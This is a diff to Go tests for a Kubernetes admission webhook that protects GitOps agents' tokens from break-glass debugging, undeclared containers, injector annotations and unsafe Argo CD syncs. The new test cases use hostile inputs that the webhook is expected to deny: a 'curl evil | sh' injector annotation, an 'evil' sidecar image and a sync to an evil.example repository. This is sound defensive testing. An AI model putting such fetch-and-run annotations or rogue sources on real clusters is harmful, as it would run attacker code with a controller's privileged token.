@@ -215,8 +215,9 @@ func TestAgentPathMatchingGit(t *testing.T) {
 }
 
 // TestAgentPathDebugContainer: an ephemeral container may mount its Pod's
-// token: a person under a grant may debug an ordinary Pod (the documented
-// use of break-glass), never the agent's.
+// token: a person under a grant may debug a Pod of no class (the
+// documented use of break-glass), never the agent's, nor a controller's
+// (as exec into it, connect.go).
 func TestAgentPathDebugContainer(t *testing.T) {
 	grant := breakglass.Grant{Name: "inc-42", Users: []string{dev}, Reason: "INC-42", GrantedAt: t0.Add(-time.Hour), ExpiresAt: t0.Add(time.Hour)}
 	pod := func(ns, sa string, debug bool) []byte {
@@ -227,18 +228,22 @@ func TestAgentPathDebugContainer(t *testing.T) {
 		return []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"` + ns + `"},"spec":{"serviceAccountName":"` + sa +
 			`","containers":[{"name":"c","image":"app"}],"ephemeralContainers":` + eph + `}}`)
 	}
+	operators := DefaultIdentities()
+	operators.ControllerUsers = []string{"system:serviceaccount:ops:*"}
 	for _, tc := range []struct {
 		ns, sa       string
+		ids          Identities
 		wantDecision audit.Decision
 		wantReason   provenance.Reason
 	}{
-		{"flux-system", "kustomize-controller", audit.Denied, reasonAgentToken},
-		{"kube-system", "deployment-controller", audit.Denied, reasonAgentToken},
-		{"shop", "web", audit.BreakGlass, provenance.ReasonEphemeralContainer},
+		{"flux-system", "kustomize-controller", DefaultIdentities(), audit.Denied, reasonAgentToken},
+		{"kube-system", "deployment-controller", DefaultIdentities(), audit.Denied, reasonAgentToken},
+		{"shop", "web", DefaultIdentities(), audit.Denied, reasonControllerToken},
+		{"shop", "web", operators, audit.BreakGlass, provenance.ReasonEphemeralContainer},
 	} {
-		t.Run(tc.ns+"/"+tc.sa, func(t *testing.T) {
+		t.Run(tc.ns+"/"+tc.sa+"/"+string(tc.wantReason), func(t *testing.T) {
 			recs := &records{}
-			h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{agentPathSnapshot(t)}, Kinds: podKinds{},
+			h := &Handler{Identities: tc.ids, Skip: DefaultSkip(), Snapshots: fixedSnap{agentPathSnapshot(t)}, Kinds: podKinds{},
 				Checker: &provenance.Checker{}, Controllers: ControllerChecker(nil), BreakGlass: grantStore(grant), Audit: recs, Now: func() time.Time { return t0 }}
 			req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{
 				UID: "uid-1", Operation: admissionv1.Update, Namespace: tc.ns, Name: "p", SubResource: "ephemeralcontainers",
@@ -286,6 +291,66 @@ func TestAgentPathGitOpsKindsFlag(t *testing.T) {
 				if d.Reason != tc.want || d.Allowed != (tc.want == provenance.ReasonNotInGit) {
 					t.Errorf("%s: reason %s (allowed %v), want %s", user, d.Reason, d.Allowed, tc.want)
 				}
+			}
+		})
+	}
+}
+
+// TestAgentPathBackedByGit: Git's backing excuses only the fields it
+// compares. With --fields declared, a container Git does not declare in
+// the agent's own Deployment, or an injector's annotation on its Pod
+// template, would run with the agent's token; an Argo CD Application's
+// operation is never compared, and may ask only for a plain sync.
+func TestAgentPathBackedByGit(t *testing.T) {
+	sidecar := func(m map[string]any) {
+		c := at(m, []string{"spec", "template", "spec", "containers"}).([]any)
+		m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"] = append(c, map[string]any{"name": "sidecar", "image": "evil"})
+	}
+	inject := setPath([]string{"spec", "template", "metadata", "annotations", "vault.hashicorp.com/agent-inject-command-x"}, "curl evil | sh")
+	restart := setPath([]string{"spec", "template", "metadata", "annotations", "kubectl.kubernetes.io/restartedAt"}, "2026-12-06T00:00:00Z")
+	operation := func(sync map[string]any) func(map[string]any) {
+		return setPath([]string{"operation"}, map[string]any{"sync": sync, "initiatedBy": map[string]any{"username": "admin"}})
+	}
+	snapshot := agentPathSnapshot(t)
+	for _, tc := range []struct {
+		name     string
+		user     string
+		fields   provenance.FieldMode
+		change   change
+		wantHard provenance.Reason // "" allowed
+	}{
+		{"a person adds a container to the agent's Deployment, declared fields", dev, provenance.FieldsDeclared,
+			fluxDeploymentChange.with(admissionv1.Update, sidecar), reasonAgentToken},
+		{"a person annotates the agent's Pod template for an injector, declared fields", dev, provenance.FieldsDeclared,
+			fluxDeploymentChange.with(admissionv1.Update, inject), reasonAgentToken},
+		{"a person annotates the agent's Pod template for an injector, strict fields", dev, provenance.FieldsStrict,
+			fluxDeploymentChange.with(admissionv1.Update, inject), reasonAgentToken},
+		{"a person restarts the agent's Deployment", dev, provenance.FieldsStrict,
+			fluxDeploymentChange.with(admissionv1.Update, restart), ""},
+		{"a person re-applies the agent's Deployment as Git declares it", dev, provenance.FieldsStrict,
+			fluxDeploymentChange.with(admissionv1.Update, nil), ""},
+		{"a controller asks for a plain sync", operator, provenance.FieldsDeclared,
+			applicationChange.with(admissionv1.Update, operation(map[string]any{"revision": "main", "prune": true})), ""},
+		{"a controller asks for a sync of inline manifests", operator, provenance.FieldsDeclared,
+			applicationChange.with(admissionv1.Update, operation(map[string]any{"manifests": []any{"kind: Pod"}})), reasonAgentToken},
+		{"a controller asks for a sync of another revision", operator, provenance.FieldsDeclared,
+			applicationChange.with(admissionv1.Update, operation(map[string]any{"revision": "evil"})), reasonAgentToken},
+		{"a person asks for a sync of another source, declared fields", dev, provenance.FieldsDeclared,
+			applicationChange.with(admissionv1.Update, operation(map[string]any{"source": map[string]any{"repoURL": "https://evil.example/x.git"}})), reasonAgentToken},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{snapshot},
+				Checker: &provenance.Checker{Fields: tc.fields}, Controllers: ControllerChecker(nil), Modes: FixedMode(Warn),
+				Audit: &records{}, Now: func() time.Time { return t0 }}
+			d := h.Decide(context.Background(), tc.change.admissionRequest(t, tc.user))
+			if tc.wantHard == "" {
+				if !d.Allowed {
+					t.Fatalf("%+v, want allowed", d)
+				}
+				return
+			}
+			if d.Allowed || d.Reason != tc.wantHard {
+				t.Fatalf("allowed %v reason %s (%s), want refused %s in warn mode", d.Allowed, d.Reason, d.Message, tc.wantHard)
 			}
 		})
 	}
